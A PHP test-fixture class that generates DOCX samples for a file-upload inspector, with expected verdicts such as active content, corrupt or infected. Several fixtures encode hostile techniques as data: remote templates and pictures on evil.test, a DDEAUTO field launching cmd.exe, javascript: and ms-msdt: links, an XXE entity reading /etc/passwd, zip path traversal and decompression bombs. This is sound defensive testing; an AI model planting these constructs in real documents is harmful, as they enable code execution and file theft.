<?php

declare(strict_types=1);

namespace Passerelle\Tests\Unit\Files\Inspection;

use Closure;
use Passerelle\Files\Inspection\Reason;
use Passerelle\Files\Sniffer;
use Passerelle\Tests\Factories\Documents\DocxBuilder;
use Passerelle\Tests\Factories\Documents\EicarText;
use Passerelle\Tests\Factories\Documents\ZipBuilder;

final class DocxCorpus
{
    private const COMPOUND = "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1";
    private const PNG = "\x89PNG\r\n\x1a\n";

    /** @return array<string, array{Closure(): string, string}> bytes, expected code or MIME type */
    public static function files(): array
    {
        return [...self::good(), ...self::active(), ...self::fields(), ...self::archives(), ...self::others()];
    }

    /** @return array<string, array{Closure(): string, string}> */
    private static function good(): array
    {
        return self::expect([
            'plain' => static fn (): string => (new DocxBuilder())->build(),
            'links' => static fn (): string => (new DocxBuilder())->relation('hyperlink', 'https://example.org/a?b=c', true)->relation('hyperlink', 'HTTP://example.org', true)
                ->relation('hyperlink', 'mailto:a@example.org', true)->relation('hyperlink', '#partie', true)->build(),
            'pictures, comments, custom XML' => static fn (): string => (new DocxBuilder())
                ->relation('image', 'media/image1.png')->part('word/media/image1.png', self::PNG)

                    ->relation('comments', 'comments.xml')->part(
                        'word/comments.xml',
                        DocxBuilder::xml('<c/>'),
                        'application/vnd.openxmlformats-officedocument.wordprocessingml.comments+xml'
                    )
                ->relation('customXml', '../customXml/item1.xml')->part('customXml/item1.xml', DocxBuilder::xml('<data>/JS &lt;script&gt;</data>'))->build(),
            'as Microsoft names the main part online' => static fn (): string => (new DocxBuilder())->main(DocxBuilder::MAIN, 'word/document2.xml')->build(),
            'fields of page and date' => static fn (): string => (new DocxBuilder())->field(' PAGE ')->field(' DATE \@ "dd/MM/yyyy" ')->field(' HYPERLINK "https://example.org" ')
                ->body('<w:fldSimple w:instr=" NUMPAGES "/>')->build(),
            'picture pasted from the web, its field in pieces' => static fn (): string => (new DocxBuilder())
                ->field('INCLUDEPICTURE', ' ', '"https://example.org/a.png" ', '\* MERGEFORMATINET')->build(),
            'place to click, which is a field too' => static fn (): string => (new DocxBuilder())->field(' MACROBUTTON NoMacro [Votre nom]')->build(),
            'words that are also fields' => static fn (): string => (new DocxBuilder())->body('<w:p><w:r><w:t>DDE et LINK "x"</w:t></w:r></w:p>')
                ->field('IMPORT', 'ANT')->build(),
            'links of other schemes, or without one' => static function (): string {
                $document = new DocxBuilder();
                foreach (['skype:awa.diop?chat', 'www.example.org', 'callto:+221', 'ftp://example.org/a', 'cv.pdf', '../a.docx', 'file:///C:/Users/Awa/photo.jpg', ''] as $target) {
                    $document->relation('hyperlink', $target, true);
                }

                return $document->build();
            },
            'link without a scheme that does not say that it is external' => static fn (): string => (new DocxBuilder())->relation('hyperlink', 'skype:awa.diop?chat')->build(),
            'template on the disk of a Mac' => static fn (): string => (new DocxBuilder())
                ->relation('attachedTemplate', 'file:///Users/awa/Library/Group%20Containers/UBF8T346G9.Office/Templates.localized/CV.dotx', true)->build(),
            'template on the disk of an old Mac' => static fn (): string => (new DocxBuilder())
                ->relation('attachedTemplate', 'Macintosh%20HD:Applications:Microsoft%20Office%202011:Templates:CV.dotx', true)->build(),
            'template without a path' => static fn (): string => (new DocxBuilder())->relation('attachedTemplate', 'Normal.dotm', true)->build(),
            'template on the disk of its author' => static fn (): string => (new DocxBuilder())
                ->relation('attachedTemplate', 'file:///C:\Users\Awa\AppData\Roaming\Microsoft\Templates\CV.dotx', true)->build(),
            'written by a program that streams' => static function (): string {
                $zip = new ZipBuilder();
                foreach ((new DocxBuilder())->entries() as $name => $bytes) {
                    $zip->addStreamed($name, $bytes);
                }

                return $zip->build();
            },
            'not packed, with folders' => static function (): string {
                $zip = (new ZipBuilder())->add('word/', '', false);
                foreach ((new DocxBuilder())->entries() as $name => $bytes) {
                    $zip->add($name, $bytes, false);
                }

                return $zip->build();
            },
            'in UTF-16' => static fn (): string => (new DocxBuilder())->part('customXml/item2.xml', "\xff\xfe"
                . mb_convert_encoding('<?xml version="1.0" encoding="UTF-16"?><données/>', 'UTF-16LE', 'UTF-8'))->build(),
        ], Sniffer::DOCX);
    }

    /** @return array<string, array{Closure(): string, string}> */
    private static function active(): array
    {
        $main = static fn (string $type): Closure => static fn (): string => (new DocxBuilder())->main($type)->build();
        $relation = static fn (string $type, string $target, bool $isExternal = true): Closure => static fn (): string => (new DocxBuilder())
            ->relation($type, $target, $isExternal)->build();
        $part = static fn (string $name, string $bytes, ?string $type = null): Closure => static fn (): string => (new DocxBuilder())->part($name, $bytes, $type)->build();

            $template = "<Relationship Id='r1' Type='http://purl.oclc.org/ooxml/officeDocument/relationships/attachedTemplate'"
                . " TargetMode='External' Target='https://evil.test/a.dotm'/>";

        return self::expect([
            'macros' => $part('word/vbaProject.bin', 'x', 'application/vnd.ms-office.vbaProject'),
            'macros under another name' => static fn (): string => (new DocxBuilder())->part('word/a.bin', self::COMPOUND)
                ->relation('vbaProject', 'a.bin')->extension('bin', 'application/octet-stream')->build(),
            'macros under another name and type' => $part('word/media/image1.png', self::COMPOUND . 'Attribut'),
            'macros of the newer kind' => static fn (): string => (new DocxBuilder())->relation('webextension', 'webextension1.xml')->build(),
            'template on the web' => $relation('attachedTemplate', 'https://evil.test/a.dotm'),
            'template on another machine' => $relation('attachedTemplate', '\\\\evil.test\a.dotm'),
            'template on another machine, as an address' => $relation('attachedTemplate', 'file://evil.test/a.dotm'),
            'template on another machine, behind a drive' => $relation('attachedTemplate', 'file:///C:\\\\evil.test\a.dotm'),
            'template of the strict variant, in settings' => static fn (): string => (new DocxBuilder())
                ->part('word/_rels/settings.xml.rels', DocxBuilder::relationships($template))->build(),
            'relations with capital letters' => static fn (): string => (new DocxBuilder())->part('word/_Rels/settings.xml.RELS', DocxBuilder::relationships($template))->build(),
            'embedded object' => $relation('oleObject', 'embeddings/oleObject1.bin', false),
            'embedded package' => $relation('package', 'x.xlsx', false),
            'embedded workbook' => $part('word/embeddings/Microsoft_Excel_Sheet.xlsx', "PK\3\4"),
            'embedded object as an element' => static fn (): string => (new DocxBuilder())->body('<w:object><o:OLEObject Type="Link" ProgID="Excel.Sheet"/></w:object>')->build(),
            'picture elsewhere' => $relation('image', 'https://evil.test/a.png'),
            'picture elsewhere that does not say so' => $relation('image', 'https://evil.test/a.png', false),
            'picture elsewhere, in its element' => static fn (): string => (new DocxBuilder())->body('<v:imagedata src="https://evil.test/a.png"/>')->build(),
            'link to another machine' => $relation('hyperlink', '\\\\evil.test\share'),
            'link to another machine, as an address' => $relation('hyperlink', 'file://evil.test/share/a.docx'),
            'link to another machine, with escapes' => $relation('hyperlink', 'file:///%5C%5Cevil.test/a.docx'),
            'link that is a script' => $relation('hyperlink', 'javascript:alert(1)'),
            'link that is a script, with escapes' => $relation('hyperlink', 'java%73cript:alert(1)'),
            'link that starts a tool of Windows' => $relation('hyperlink', 'ms-msdt:/id PCWDiagnostic'),
            'link to a file' => $relation('hyperlink', 'file:///C:/Windows/System32/calc.exe'),
            'link to a program beside the document' => $relation('hyperlink', 'setup.exe'),
            'template on another machine, in other ways' => $relation('attachedTemplate', 'file:////evil.test/a.dotm'),
            'template on another machine, with escapes' => $relation('attachedTemplate', 'file:///%5C%5Cevil.test%5Ca.dotm'),
            'template on the web, almost as a disk of a Mac' => $relation('attachedTemplate', 'http:evil.test:a.dotm'),
            'frame' => $relation('frame', 'https://evil.test'),
            'document inside' => $relation('subDocument', 'a.docx'),
            'source of a mailing' => $relation('mailMergeSource', 'file:///C:\a.mdb'),
            'ActiveX' => $part('word/activeX/activeX1.xml', DocxBuilder::xml('<a/>')),
            'control' => static fn (): string => (new DocxBuilder())->body('<w:control r:id="r9"/>')->build(),
            'part of another format' => static fn (): string => (new DocxBuilder())->relation('aFChunk', 'a.html')->build(),
            'part of another format, by its type' => static fn (): string => (new DocxBuilder())->extension('htm', 'text/html')->build(),
            'part of another format, as an element' => static fn (): string => (new DocxBuilder())->body('<w:altChunk r:id="r9"/>')->build(),
            'program' => $part('word/media/setup.exe', 'x'),
            'program under another name' => $part('word/media/image1.png', "MZ\x90\0"),
            'archive under another name' => $part('word/media/image1.png', (new ZipBuilder())->add('a', 'x')->build()),
            'document type with entities' => $part('word/settings.xml', '<!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]><s>&x;</s>'),
            'document type in UTF-16' => $part('word/settings.xml', "\xff\xfe" . mb_convert_encoding('<!DOCTYPE s [<!ENTITY a "b">]><s>&a;</s>', 'UTF-16LE', 'UTF-8')),
            'document type in the content types' => $part('[Content_Types].xml', '<!DOCTYPE Types><Types/>'),
        ], Reason::ActiveContent->value);
    }

    /** @return array<string, array{Closure(): string, string}> */
    private static function fields(): array
    {
        $field = static fn (string ...$runs): Closure => static fn (): string => (new DocxBuilder())->field(...$runs)->build();

        return self::expect([
            'field DDE' => $field(' DDE excel "x" '),
            'field DDEAUTO in pieces' => $field(' DD', 'EA', 'UTO c:\\\\windows\\\\cmd.exe "/k calc"'),
            'field DDEAUTO in small letters' => $field('ddeauto x'),
            'field DDEAUTO as an attribute' => static fn (): string => (new DocxBuilder())->body('<w:fldSimple w:instr="DDEAUTO cmd"/>')->build(),
            'field DDEAUTO that never ends' => static fn (): string => (new DocxBuilder())
                ->body('<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r>')->build(),
            'field DDEAUTO without a beginning' => static fn (): string => (new DocxBuilder())->body('<w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r>')->build(),
            'field inside a field' => static fn (): string => (new DocxBuilder())->body('<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r>'
                . '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>AUTO x</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
                . '<w:r><w:fldChar w:fldCharType="end"/></w:r>')->build(),
            'field of letters as numbers' => $field(' QUOTE 68 68 69 65 '),
            'field that fetches text' => $field(' INCLUDETEXT "https://evil.test/a.docx" '),
            'field that fetches a picture of another machine' => $field(' INCLUDEPICTURE "\\\\\\\\evil.test\\\\a.png" '),
            'field in a header' => static fn (): string => (new DocxBuilder())
                ->part('word/header1.xml', DocxBuilder::xml('<w:hdr xmlns:w="x"><w:fldSimple w:instr="LINK x"/></w:hdr>'))->build(),
        ], Reason::ActiveContent->value);
    }

    /** @return array<string, array{Closure(): string, string}> */
    private static function archives(): array
    {
        $with = static fn (callable $change): Closure => static function () use ($change): string {
            $zip = (new DocxBuilder())->zip();
            $change($zip);

            return $zip->build();
        };

            $entry = static fn (string $name, array $changes = [], string $bytes = '<a/>'): Closure =>
                $with(static fn (ZipBuilder $zip): ZipBuilder => $zip->add($name, $bytes, true, $changes));

        return [
            ...self::expect([
                'two entries of one name' => $entry('word/document.xml'),
                'two entries of one name but for capitals' => $entry('WORD/Document.xml'),
                'path that leads out' => $entry('../evil.php'),
                'path that leads out, later' => $entry('word/../../evil.php'),
                'absolute path' => $entry('/etc/cron.d/x'),
                'path of Windows' => $entry('word\evil.xml'),
                'path with a drive' => $entry('C:evil.xml'),
                'name with a zero' => $entry("a\0.xml"),
                'other name in the entry' => $entry('word/a.xml', ['local' => 'word/b.xml']),
                'other size in the header' => $entry('word/a.xml', ['size' => 3]),
                'other checksum' => $entry('word/a.xml', ['crc' => 1]),
                'packed by a method nobody uses' => $entry('word/a.xml', ['method' => 12]),
                'damaged bytes' => $entry('word/a.xml', ['packed' => "\xff\xff\xff"]),
                'something behind the packed bytes' => $entry('word/a.xml', ['packed' => gzdeflate('<a/>') . '<html>']),
                'cut packed bytes' => $entry('word/a.xml', ['packed' => substr((string) gzdeflate('<abcdefgh/>'), 0, 6)]),
                'something between the entries' => $entry('word/a.xml', ['gap' => '<html>']),
                'sizes behind the bytes that are too long' => $entry('word/a.xml', ['flags' => 8, 'descriptor' => str_repeat('x', 40)]),
                'damaged XML' => $entry('word/a.xml', [], '<a><b></a>'),
                'XML in a rare encoding' => $entry('word/a.xml', [], '<?xml version="1.0" encoding="UTF-7"?><a/>'),
            ], Reason::Corrupt->value),
            ...self::expect([
                'something behind it' => $with(static function (ZipBuilder $zip): void {
                    $zip->after = '<html><script>alert(1)</script>';
                }),
                'hidden in a comment' => $with(static function (ZipBuilder $zip): void {
                    $zip->comment = '<html>';
                }),
            ], Reason::Type->value),
            ...self::expect([
                'no Office document' => static fn (): string => (new ZipBuilder())->add('readme.txt', 'x')->build(),
                'empty archive' => static fn (): string => (new ZipBuilder())->build(),
                'something before it' => $with(static function (ZipBuilder $zip): void {
                    $zip->before = 'MZ';
                }),
            ], Reason::IsArchive->value),
        ];
    }

    /** @return array<string, array{Closure(): string, string}> */
    private static function others(): array
    {
        return [
            ...self::expect([
                'encrypted entry' => static fn (): string => (new DocxBuilder())->zip()->add('word/a.xml', '<a/>', true, ['flags' => 1])->build(),
            ], Reason::Encrypted->value),
            ...self::expect([
                'password' => static fn (): string => self::COMPOUND . str_repeat("\0", 504) . mb_convert_encoding('EncryptedPackage', 'UTF-16LE'),
            ], Reason::OfficePassword->value),
            ...self::expect([
                'test signature in a part' => static fn (): string => (new DocxBuilder())->part('word/media/image1.png', self::PNG . EicarText::text())->build(),
                'test signature in XML' => static fn (): string => (new DocxBuilder())->part('word/a.xml', '<a><!--' . EicarText::text() . '--></a>')->build(),
                'test signature that is not packed' => static fn (): string => (new DocxBuilder())->zip()->add('a.png', EicarText::text(), false)->build(),
            ], Reason::Infected->value),
            ...self::expect([
                'part that unpacks to much' => static fn (): string => (new DocxBuilder())->part('word/media/image1.png', str_repeat("\0", 6_000_000))->build(),
                'XML that unpacks to much' => static fn (): string => (new DocxBuilder())->part('word/a.xml', '<a>' . str_repeat(' ', 6_000_000) . '</a>')->build(),
                'XML of more than may be in memory' => static fn (): string => (new DocxBuilder())->zip()->add('word/a.xml', '<a/>', true, ['size' => 40_000_000])->build(),
                'more entries than anybody needs' => static function (): string {
                    $zip = (new DocxBuilder())->zip();
                    for ($index = 0; $index < 2_000; $index++) {
                        $zip->add("word/{$index}.png", 'x', false);
                    }

                    return $zip->build();
                },
                'elements in elements' => static fn (): string => (new DocxBuilder())->part('word/a.xml', str_repeat('<a>', 150) . str_repeat('</a>', 150))->build(),
            ], Reason::TooComplex->value),
        ];
    }

    /**
     * @param array<string, Closure(): string> $files
     * @return array<string, array{Closure(): string, string}>
     */
    private static function expect(array $files, string $verdict): array
    {
        $expected = [];
        foreach ($files as $name => $bytes) {
            $expected["docx: {$name}"] = [$bytes, $verdict];
        }

        return $expected;
    }
}
